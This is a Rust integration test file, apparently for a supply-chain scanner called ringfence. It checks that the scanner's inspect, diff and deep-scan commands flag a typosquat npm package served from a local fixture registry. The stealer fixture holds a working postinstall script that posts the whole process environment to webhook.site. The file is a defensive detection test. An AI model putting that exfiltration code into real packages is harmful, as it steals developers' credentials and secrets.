//! `ringfence inspect`, `diff` and `scan --deep` against a real HTTP registry on loopback,
//! served from fixtures, found through the npm configuration as a user's would be.

mod util;

use ringfence_registry::testing::{FixturePackage, FixtureRegistry};
use serde_json::Value;
use time::macros::datetime;
use util::{Ringfence, repo_root, run};

/// An install-time stealer in the shape of countless typosquats: the postinstall script
/// serialises the environment and posts it to a webhook.
fn stealer(version: &str) -> FixturePackage {
    FixturePackage::new("left-pad-helper", version)
        .file("index.js", "module.exports = (s, n) => String(s).padStart(n);\n")
        .file(
            "setup.js",
            "const https = require('https');\n\
             const data = JSON.stringify(process.env);\n\
             const req = https.request({ hostname: 'webhook.site', path: '/3f1c2d', method: 'POST' });\n\
             req.write(data);\n\
             req.end();\n",
        )
        .script("postinstall", "node setup.js")
        .publisher("mallory")
        .published_at(datetime!(2025-09-08 13:16:00 UTC))
}

fn clean(version: &str) -> FixturePackage {
    FixturePackage::new("left-pad-helper", version)
        .file(
            "index.js",
            "module.exports = (s, n) => String(s).padStart(n);\n",
        )
        .publisher("alice")
        .published_at(datetime!(2024-01-02 10:00:00 UTC))
}

fn with_registry(rf: &Ringfence, registry: &FixtureRegistry, cmd: &mut assert_cmd::Command) {
    cmd.env("npm_config_registry", registry.url().as_str())
        .env("XDG_CACHE_HOME", rf.dir.path().join("cache"))
        .env("HOME", rf.dir.path());
}

#[test]
fn inspect_fetches_from_the_configured_registry_and_finds_the_stealer() {
    let registry = FixtureRegistry::serve([clean("1.2.0"), stealer("1.2.1")]).unwrap();
    let rf = Ringfence::new();
    let mut cmd = rf.cmd();
    with_registry(&rf, &registry, &mut cmd);
    let (code, stdout, stderr) = run(cmd.args([
        "inspect",
        "npm:left-pad-helper@1.2.1",
        "npm:left-pad-helper@1.2.0",
        "--format",
        "json",
    ]));
    assert_eq!(code, 1, "{stdout}{stderr}");
    let v: Value = serde_json::from_str(&stdout).unwrap();
    let bad = &v["packages"][0];
    assert_eq!(bad["name"], "left-pad-helper");
    assert_eq!(bad["version"], "1.2.1");
    assert_eq!(bad["verdict"], "malicious", "{bad:#}");
    let decided: Vec<&str> = bad["decided_by"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d.as_str().unwrap())
        .collect();
    assert!(decided.contains(&"env-exfiltration"), "{decided:?}");
    let exfil = bad["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["id"] == "env-exfiltration")
        .unwrap();
    assert_eq!(exfil["evidence"][0]["file"], "setup.js");
    assert!(exfil["evidence"][0]["line"].as_u64().unwrap() >= 2);
    let hosts: Vec<&str> = bad["iocs"]["hosts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h.as_str().unwrap())
        .collect();
    assert!(hosts.contains(&"webhook.site"), "{hosts:?}");
    assert_eq!(v["packages"][1]["verdict"], "ok");
    // The registry really was asked (and no other host).
    assert!(
        registry
            .requests()
            .iter()
            .any(|r| r.path.contains("left-pad-helper"))
    );
}

#[test]
fn inspect_reads_tarballs_from_disk_and_renders_a_table() {
    let rf = Ringfence::new();
    let tgz = rf.dir.path().join("left-pad-helper-1.2.1.tgz");
    std::fs::write(&tgz, stealer("1.2.1").tarball().unwrap()).unwrap();
    let (code, stdout, _) = run(rf.cmd().arg("inspect").arg(&tgz));
    assert_eq!(code, 1);
    assert!(stdout.contains("MALICIOUS"), "{stdout}");
    assert!(
        stdout.contains("setup.js:"),
        "evidence has file:line:col: {stdout}"
    );
    let (code, stdout, _) = run(rf
        .cmd()
        .arg("inspect")
        .arg(&tgz)
        .args(["--fail-on", "never"]));
    assert_eq!(code, 0, "{stdout}");
}

#[test]
fn inspect_sarif_validates() {
    let rf = Ringfence::new();
    let tgz = rf.dir.path().join("p.tgz");
    std::fs::write(&tgz, stealer("1.2.1").tarball().unwrap()).unwrap();
    let (_, stdout, _) = run(rf
        .cmd()
        .arg("inspect")
        .arg(&tgz)
        .args(["--format", "sarif"]));
    let sarif: Value = serde_json::from_str(&stdout).unwrap();
    let schema: Value = serde_json::from_str(
        &std::fs::read_to_string(
            repo_root().join("crates/ringfence/tests/data/sarif-2.1.0-rtm.5.json"),
        )
        .unwrap(),
    )
    .unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let errors: Vec<String> = validator
        .iter_errors(&sarif)
        .map(|e| format!("{e} at {}", e.instance_path))
        .collect();
    assert!(errors.is_empty(), "{}", errors.join("\n"));
    assert!(
        sarif["runs"][0]["results"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r["ruleId"] == "env-exfiltration")
    );
}

#[test]
fn a_missing_target_is_an_error_naming_it() {
    let rf = Ringfence::new();
    let (code, _, stderr) = run(rf.cmd().args(["inspect", "no-such.tgz"]));
    assert_eq!(code, 2);
    assert!(stderr.contains("no-such.tgz"), "{stderr}");
}

#[test]
fn diff_shows_the_hijacked_release() {
    let registry = FixtureRegistry::serve([clean("1.2.0"), stealer("1.2.1")]).unwrap();
    let rf = Ringfence::new();
    let mut cmd = rf.cmd();
    with_registry(&rf, &registry, &mut cmd);
    let (code, stdout, stderr) = run(cmd.args([
        "diff",
        "npm:left-pad-helper@1.2.0",
        "npm:left-pad-helper@1.2.1",
        "--json",
    ]));
    assert_eq!(code, 1, "{stdout}{stderr}");
    let v: Value = serde_json::from_str(&stdout).unwrap();
    let ids: Vec<&str> = v["diff"]["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["id"].as_str().unwrap())
        .collect();
    assert!(ids.contains(&"new-install-script"), "{ids:?}");
    assert!(ids.contains(&"publisher-change"), "{ids:?}");
    assert!(ids.contains(&"capability-drift"), "{ids:?}");
    assert_eq!(v["new"]["publisher"], "mallory");
    assert!(
        v["diff"]["new_endpoints"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e == "webhook.site")
    );
    assert_eq!(v["diff"]["added_files"][0], "setup.js");
}

#[test]
fn scan_deep_inspects_the_inventory_and_caches_verdicts() {
    let registry = FixtureRegistry::serve([
        stealer("1.2.1"),
        FixturePackage::new("tiny-util", "2.0.0").file("index.js", "exports.x = 1;\n"),
    ])
    .unwrap();
    let rf = Ringfence::new();
    let project = rf.dir.path().join("shop");
    std::fs::create_dir_all(&project).unwrap();
    std::fs::write(
        project.join("package-lock.json"),
        r#"{
  "name": "shop",
  "lockfileVersion": 3,
  "packages": {
    "": { "name": "shop", "dependencies": { "left-pad-helper": "^1.2.0", "tiny-util": "^2.0.0" } },
    "node_modules/left-pad-helper": { "version": "1.2.1" },
    "node_modules/tiny-util": { "version": "2.0.0" }
  }
}
"#,
    )
    .unwrap();
    for round in 0..2 {
        let mut cmd = rf.cmd();
        with_registry(&rf, &registry, &mut cmd);
        let (code, stdout, stderr) = run(cmd
            .arg("scan")
            .arg(&project)
            .args(["--deep", "--format", "json"]));
        assert_eq!(
            code, 1,
            "a malicious verdict fails the scan: {stdout}{stderr}"
        );
        let v: Value = serde_json::from_str(&stdout).unwrap();
        let verdicts = v["deep"]["verdicts"].as_array().unwrap();
        assert_eq!(verdicts.len(), 2);
        assert_eq!(verdicts[0]["name"], "left-pad-helper");
        assert_eq!(verdicts[0]["verdict"], "malicious");
        assert_eq!(verdicts[0]["projects"][0], "shop");
        assert_eq!(verdicts[1]["verdict"], "ok");
        assert_eq!(v["deep"]["from_cache"], if round == 0 { 0 } else { 2 });
    }
}
